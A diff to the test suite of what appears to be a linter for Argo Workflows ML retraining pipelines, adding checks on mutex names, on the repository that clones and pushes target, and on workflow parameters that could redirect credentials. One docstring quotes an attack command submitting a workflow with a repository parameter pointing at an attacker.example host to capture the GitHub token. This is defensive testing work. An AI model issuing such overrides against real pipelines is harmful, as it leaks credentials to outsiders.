@@ -108,6 +108,21 @@ def test_a_pipeline_without_its_mutex_can_overlap_and_fails(
     assert code == 1 and rules(report) == {"MLP-RETRAIN-MUTEX"}, report
 
 
+def test_a_pipeline_holding_another_apps_mutex_would_overlap_its_own_runs_and_fails(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A copied template that kept iris's mutex: churn's runs would not wait for each other."""
+    repo = copy_repo(tmp_path)
+    path, text = _workflow_template(repo, "churn-gbm")
+    path.write_text(
+        text.replace("      - name: retrain-churn-gbm\n", "      - name: retrain-iris-classifier\n", 1)
+    )
+    code, report = run_json(capsys, "--repo", str(repo), str(path.parent))
+    found = [f for f in report["findings"] if f["rule"] == "MLP-RETRAIN-MUTEX"]
+    assert code == 1 and len(found) == 1, report
+    assert "not its app's own 'retrain-churn-gbm'" in found[0]["message"], found
+
+
 def test_a_field_the_argo_crd_does_not_have_fails_against_the_schema(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -159,9 +174,66 @@ def test_pipeline_reads_its_secrets_from_vault_synced_secrets_never_inline(folde
 @pytest.mark.parametrize("folder", PIPELINES, ids=lambda p: p.parent.name)
 def test_pipeline_proposes_to_the_repository_argo_cd_syncs(folder: Path) -> None:
     template = next(d for d in _documents(folder) if d["kind"] == "WorkflowTemplate")
-    repo = next(p["value"] for p in template["spec"]["arguments"]["parameters"] if p["name"] == "repo")
+    clones = [
+        a["git"]["repo"]
+        for t in template["spec"]["templates"]
+        for a in t.get("inputs", {}).get("artifacts", [])
+        if "git" in a
+    ]
+    pushes = [e["value"] for c in _containers(template) for e in c.get("env", []) if e["name"] == "REPO"]
+    assert len(clones) == 2 and len(pushes) == 1, (clones, pushes)
     for env in ("dev", "staging", "prod"):
-        assert repo == load_environment(env).services.argocd.repo_url, (folder, env)
+        assert set(clones + pushes) == {load_environment(env).services.argocd.repo_url}, (folder, env)
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "parameter"),
+    [
+        (
+            "repo: https://github.com/example-org/mlplat.git",
+            'repo: "{{workflow.parameters.repo}}"',
+            "repo",
+        ),
+        (
+            "value: https://github.com/example-org/mlplat.git",
+            'value: "{{ workflow.parameters.repo }}"',
+            "repo",
+        ),
+        (
+            "- s3://argo-artifacts/datasets/iris-classifier/",
+            '- "{{workflow.parameters.data-source}}"',
+            "data-source",
+        ),
+        (  # an expression template names it too
+            "repo: https://github.com/example-org/mlplat.git",
+            "repo: \"{{=workflow.parameters['repo']}}\"",
+            "repo",
+        ),
+        (  # routed through a step argument from the steps template, which holds no credential itself
+            'value: "retrain/iris-classifier-v{{steps.register.outputs.result}}"',
+            'value: "{{workflow.parameters.branch}}"',
+            "branch",
+        ),
+        (  # declared for a submitter to set, even before a step reads it
+            '      - name: params\n        value: "{}"\n',
+            '      - name: params\n        value: "{}"\n      - name: repo\n        value: x\n',
+            "repo",
+        ),
+    ],
+)
+def test_a_submitter_cannot_steer_where_a_steps_credential_goes(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], old: str, new: str, parameter: str
+) -> None:
+    """`argo submit -p repo=https://attacker.example/x.git` (or the UI) must not get the GitHub token
+    pushed there, nor point the artifact store's credentials at data of the submitter's choice."""
+    repo = copy_repo(tmp_path)
+    path, text = _workflow_template(repo, "iris-classifier")
+    assert old in text, old
+    path.write_text(text.replace(old, new, 1))
+    code, report = run_json(capsys, "--repo", str(repo), str(path.parent))
+    found = [f for f in report["findings"] if f["rule"] == "MLP-RETRAIN-PARAMETER"]
+    assert code == 1 and len(found) == 1, report
+    assert f"workflow parameter {parameter!r}" in found[0]["message"], found
 
 
 @pytest.mark.parametrize("folder", PIPELINES, ids=lambda p: p.parent.name)
